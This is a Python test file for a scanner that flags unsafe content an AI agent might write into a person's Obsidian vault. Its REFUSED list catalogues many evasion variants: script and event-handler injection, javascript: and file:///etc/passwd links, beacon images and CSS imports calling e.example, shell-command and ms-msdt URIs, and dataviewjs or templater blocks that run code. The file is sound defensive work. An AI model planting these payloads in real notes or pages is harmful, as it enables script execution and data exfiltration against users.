"""What an agent's text may not do in a person's Obsidian, and what it may."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vault_palace.core.content import inline_fields, unsafe
from vault_palace.core.model import PROPERTIES

REFUSED = {
    "style inside a paragraph": "x <style>@import '//e.example/a.css'</style>",
    "style inside a paragraph, escaped": "x <STYLE type=a>@im\\port '//e.example/a.css'</STYLE>",
    "style in a formula": "$\\style{background-image:url(http://e.example)}{y}$",
    "fence on a footnote's first line": "[^1]: ```dataviewjs\n",
    "backtick inside an address": "http://e.example/a`b <script>x</script> `",
    "backtick inside an inline footnote": "^[a `] <script>x</script> `",
    # Blocks that plugins run, in every shape of a fence.
    "dataviewjs": "```dataviewjs\ndv.pages()\n```",
    "dataviewjs, tildes": "~~~dataviewjs\ndv.pages()\n~~~",
    "dataviewjs, long fence": "``````dataviewjs\ndv.pages()\n``````",
    "dataviewjs, blank before the name": "```   dataviewjs\nx\n```",
    "dataviewjs, indented": "   ```dataviewjs\nx\n   ```",
    "dataviewjs, indented like code": "text\n\n     ```dataviewjs\n     x\n     ```",
    "dataviewjs, capitals": "```DataviewJS\nx\n```",
    "dataviewjs, with options": "```dataviewjs{x}\nx\n```",
    "dataviewjs, entity in its name": "```&#100;ataviewjs\nx\n```",
    "dataviewjs, in a list": "- a\n  ```dataviewjs\n  x\n  ```",
    "dataviewjs, in a callout": "> [!note]\n> ```dataviewjs\n> x\n> ```",
    "dataviewjs, never closed": "```dataviewjs\nx",
    "dataviewjs, in an admonition": "````ad-note\n```dataviewjs\nx\n```\n````",
    "dataviewjs, Windows line ends": "a\r\n```dataviewjs\r\nx\r\n```\r\n",
    "datacore": "```datacorejsx\nx\n```",
    "execute code": "```run-python\nimport os\n```",
    "js engine": "```js-engine\nx\n```",
    "a button": "```meta-bind-button\naction: js\n```",
    "tasks by function": "```tasks\nfilter by function task.x()\n```",
    # Inline programs.
    "inline dataviewjs": "now `$= dv.current()` then",
    "inline dataviewjs, two ticks": "now ``$= dv.current() `` then",
    "templater": "a <% tp.file.title %> b",
    "templater over lines": "a <%*\nawait x()\n%> b",
    "templater in code": "```\n<% tp.user.x() %>\n```",
    "templater in a title": "<% tp.date.now() %>",
    # HTML that runs, embeds or loads.
    "script": "<script>alert(1)</script>",
    "script, capitals and attributes": "x <ScRiPt src=a.js></script>",
    "script inside raw HTML": "<div>\n```\n<script>x</script>\n```\n</div>",
    "script after an empty comment": "<!--> <script>x</script>",
    "iframe": '<iframe src="https://e.example"></iframe>',
    "object": "<object data=x></object>",
    "embed": "<embed src=x>",
    "link": "<link rel=stylesheet href=x.css>",
    "meta": '<meta http-equiv="refresh" content="0;url=x">',
    "base": "<base href=x>",
    "form": "<form action=x></form>",
    "svg that rewrites a link": "<svg><animate attributeName=href to=x /></svg>",
    "handler": '<b onclick="x()">b</b>',
    "handler, capitals": "<img src=a.png ONERROR=x()>",
    "handler behind a slash": "<div><img/src='a.png'/onerror=x()></div>",
    "handler behind a quoted >": '<b title=">" onmouseover=x()>b</b>',
    "handler on the next line": "<b\nonclick=x()>b</b>",
    "document in an attribute": '<b srcdoc="x">b</b>',
    "html image": "<img src=http://e.example/x.png>",
    "html image, protocol-relative": "<img src='//e.example/x.png'>",
    "html image, backslashes": "<img src='\\\\e.example\\x.png'>",
    "html image, entity": "<img src='&#104;ttps://e.example/x'>",
    "html image, srcset": '<img srcset="a.png 1x, https://e.example/x.png 2x">',
    "video poster": "<video poster=https://e.example/x></video>",
    "svg image": "<svg><image xlink:href='https://e.example/x'/></svg>",
    "ping": "<a href=https://a.example ping=https://e.example>a</a>",
    "style attribute": '<b style="background:url(https://e.example/x)">b</b>',
    "style attribute, escaped": '<b style="background:u\\72l(//e.example/x)">b</b>',
    "style attribute, comment": '<b style="background:url/**/(//e.example/x)">b</b>',
    "style block": "<style>\n@import 'https://e.example/x.css';\n</style>",
    # Addresses that run or command.
    "javascript link": "[a](javascript:alert(1))",
    "javascript link, capitals": "[a](JaVaScRiPt:alert(1))",
    "javascript link, entity": "[a](&#106;avascript:alert(1))",
    "javascript link, encoded colon": "[a](javascript%3Aalert(1))",
    "javascript link, angle": "[a](<javascript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "javascript reference, unused": "[b]: javascript:alert(1)",
    "javascript in html": "<a href='java\tscript:alert(1)'>a</a>",
    "javascript in html, entities": "<a href='&#x6A;avascript&colon;alert(1)'>a</a>",
    "javascript in html, control characters": "<a href='\x01javascript:alert(1)'>a</a>",
    "javascript in math": "$\\href{javascript:alert(1)}{x}$",
    "javascript in a table": "| a |\n|---|\n| [a](javascript:x) |",
    "javascript in a heading": "# [a](javascript:x)",
    "javascript in a diagram": '```mermaid\ngraph TD\nclick A "javascript:x"\n```',
    "vbscript": "[a](vbscript:x)",
    "data page": "[a](data:text/html,<b>x</b>)",
    "data picture that is a program": "[a](data:image/svg+xml,x)",
    "file": "[a](file:///etc/passwd)",
    "file, bare": "look at file:///etc/passwd",
    "advanced uri": "[a](obsidian://advanced-uri?commandid=x)",
    "shell commands": "[a](obsidian://shell-commands/?execute=x)",
    "new note by link": "[a](obsidian://new?file=x&content=y)",
    "open that appends": "[a](obsidian://open?file=x&append=y)",
    "obsidian command, bare": "obsidian://advanced-uri?commandid=x",
    "windows protocol": "[a](ms-msdt:/id)",
    "network share": "[a](\\\\\\\\e.example\\x)",
    # Images that phone home.
    "image": "![x](http://e.example/x.png)",
    "image, https": "![x|100](https://e.example/x.png)",
    "image, protocol-relative": "![x](//e.example/x.png)",
    "image, reference": "![x][r]\n\n[r]: https://e.example/x.png",
    "image, collapsed reference": "![r]\n\n[r]: https://e.example/x.png",
    "image in a link": "[![x](https://e.example/x.png)](https://a.example)",
    "image with a blank in its address": "![x](https://e.example/x y.png)",
    "image in a query": '```dataview\nLIST WITHOUT ID "![](https://e.example/" + file.name + ")"\n```',
    "image in a query, in pieces": '```dataview\nLIST "<im" + "g src=x>"\n```',
    "image in an inline query": '`= "<img src=\'" + this.x + "\'>"`',
    "image in a base": "```base\nformulas:\n  x: 'image(\"x\")'\n```",
    "image in a diagram": '```mermaid\nflowchart TD\nA@{ img: "https://e.example/x" }\n```',
    "image in a card": "```cardlink\nurl: https://a.example\nimage: https://e.example/x\n```",
    "javascript in a sequence diagram": "```mermaid\nlink Alice: x @ javascript:x\n```",
    "style in a diagram": "```mermaid\n%%{init: {'themeCSS': 'a{b:url(//e.example)}'}}%%\n```",
    "inline code of a plugin": "`js-engine: x`",
    "blocks in blocks": "\n".join("`" * (24 - depth) + "ad-note" for depth in range(20)),
    # Where Obsidian and CommonMark part about what is code, or is shown at all.
    "image in a footnote": "a[^1]\n\n[^1]: ![](http://e.example/x)",
    "image in a footnote's next paragraph": "a[^1]\n\n[^1]: b\n\n    ![](http://e.example/x)",
    "image after a tag that is not closed": "<pre>\n\n![](http://e.example/x)",
    "image after a sign that is not closed": "<?x\n\n![](http://e.example/x)",
    "inline dataviewjs after a tag": "<pre>\n\n`$= x`",
    "dataviewjs after a tag": "<pre>\n\n```dataviewjs\nx\n```",
    "image in indented code": "a\n\n    ![](http://e.example/x)",
    "backtick in math": "$a`$ <img src=https://e.example/x> `",
    "backtick in a comment": "%%`%% <img src=https://e.example/x> `",
    "backtick in a wikilink": "[[a`b]] <img src=https://e.example/x> `",
    "fence in a comment": "%%\n```\n%%\n<img src=https://e.example/x>",
    "fence in block math": "$$\n```\n$$\n<img src=https://e.example/x>",
}

ALLOWED = {
    "prose": "It costs 5 < 7, and a > b; only x <y, once = 2.",
    "a web link": "[a](https://a.example), <https://a.example> and https://a.example",
    "a reference": "[a][b]\n\n[b]: https://a.example",
    "mail and other programs": "[a](mailto:a@b.example) [z](zotero://select/x) [e](vscode://file/x)",
    "a local image": "![x](x.png) ![[y.png|100]] <img src='a b.png' width=10>",
    "a picture in the text": "![x](data:image/png;base64,AAAA)",
    "a wikilink": "[[javascript: the good parts]] and [[a#b|c]]",
    "opening a note": "[a](obsidian://open?vault=v&file=x)",
    "a query": '```dataview\nTABLE density FROM "01_Shallow" WHERE density <0.5\n```',
    "an inline query": "`= this.density`",
    "a base": "```base\nviews:\n  - type: table\n```",
    "tasks": "```tasks\nnot done\n```",
    "script in code": "`<script>` and\n\n```html\n<script>x</script><img src=https://e.example>\n```",
    "script in an escape": "\\<script> and &lt;script&gt;",
    "links in code": "`[a](javascript:x)`\n\n~~~\n![x](https://e.example/x)\nfile:///etc/passwd\n~~~",
    "a program as a sample": "```js\ndv.pages()\n```\n\n```jsx\n<A onClick={x} />\n```",
    "dataviewjs as a sample": "````md\n```dataviewjs\nx\n```\n````",
    "the word": "dataviewjs is off, and javascript: is a scheme",
    "less and per cent": "a <% b and c %d",
    "harmless html": "<b>b</b> <details><summary>s</summary>t</details> <span style='color:red'>r</span>",
    "money and code": "`$x` costs `<script>` $5 and `$y` more",
    "generics": "List<String> and Map<K, V>",
    "indented code": "a\n\n    x = 1\n    print(x)",
    "a footnote": "a[^1]\n\n[^1]: See <https://a.example>.",
    "a diagram": '```mermaid\ngraph TD\nA[data: one] --> B\nclick A "https://a.example"\n```',
    "a drive letter": "![x](C:/x.png)",
    "a comment": "%% note to self %% and <!-- another -->",
    "empty": "",
}


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED.keys())
def test_content_that_runs_or_loads_is_found(text: str) -> None:
    found = unsafe(text)

    assert found


@pytest.mark.parametrize("text", ALLOWED.values(), ids=ALLOWED.keys())
def test_harmless_content_is_left_alone(text: str) -> None:
    found = unsafe(text)

    assert found == []


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED.keys())
def test_content_is_found_behind_other_paragraphs(text: str) -> None:
    found = unsafe("# Title\n\nSome `code` and $5.\n\n- a\n- b\n\nText.\n\n" + text)

    assert found


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("a\n\n```dataviewjs\nx\n```", 3),
        ("a\nb <script>", 2),
        ("a\n`c\nc` b\n![x](http://e.example)", 4),
        ("- a\n- b\n  <b onclick=x>b</b>", 3),
        ("a\n\n<div>\n<b>\n<img src=//e.example>\n</div>", 5),
        ("a\n\n[b]: javascript:x", 3),
        ('a\n\n> ```dataview\n> LIST\n> FROM "a://b"\n> ```', 5),
        ("a\n<% b %>", 2),
        ("a\n\n    b\n    ![x](http://e.example)", 4),
    ],
)
def test_a_finding_names_its_line(text: str, line: int) -> None:
    found = unsafe(text)

    assert [finding.line for finding in found] == [line]


def test_every_finding_is_reported() -> None:
    found = unsafe("<b onclick=x>\n\n[a](file:///x)\n\n![b](http://e.example)")

    assert [finding.line for finding in found] == [1, 3, 5]


@given(st.text(alphabet="<>`$%[]()!~\\\n ab=\"'/:&;#", max_size=200))
def test_no_text_is_too_odd_to_be_judged(text: str) -> None:
    found = unsafe(text)

    assert found == sorted(set(found))


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz ,.;\n0123456789äß中", max_size=300))
def test_plain_prose_is_never_refused(text: str) -> None:
    found = unsafe(text)

    assert found == []


@pytest.mark.parametrize(
    "unit",
    [
        "<",
        "<a ",
        "<%",
        "`",
        "[",
        "![",
        "](",
        "[[",
        "$",
        "%%",
        "<style>",
        "image-set(",
        "\\",
        "> ",
        "~~~\n",
        'a="',
        "<a b='",
    ],
)
def test_fs_11_a_pathological_text_hides_nothing(unit: str) -> None:
    # A scan that goes back for every mark would not come to an end here.
    text = "<b onclick=x>b</b>\n\n" + (unit * 50_000)[:50_000]

    found = unsafe(text)

    assert found[0].line == 1


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("density:: 0.1", ["density"]),
        ("Density:: 0.1", ["density"]),
        ("**density**:: 0.1", ["density"]),
        ("_status_:: done", ["status"]),
        ("> layer:: x", ["layer"]),
        ("- streak:: 4", ["streak"]),
        ("- [ ] do it [status:: done]", ["status"]),
        ("1. pinned:: true", ["pinned"]),
        ("so (layer:: x) and [density:: 1] and [density:: 2]", ["layer", "density"]),
        ("`[density:: 1]`", ["density"]),
        ("mood:: fine", []),
        ("std::layer::x", []),
        ("the density:: of it is [not:: ours]", []),
        ("density: 0.1", []),
        ("see [[density]]", []),
    ],
)
def test_a_line_that_dataview_merges_with_a_property_is_named(line: str, names: list[str]) -> None:
    found = inline_fields("first\n" + line)

    assert found == names


def test_inline_fields_count_in_code() -> None:
    found = inline_fields("```\ndensity:: 0.1\n```")

    assert found == ["density"]


@pytest.mark.parametrize("name", [owned.name for owned in PROPERTIES])
def test_every_property_of_ours_is_watched(name: str) -> None:
    found = inline_fields(f"[{name}:: x]")

    assert found == [name]
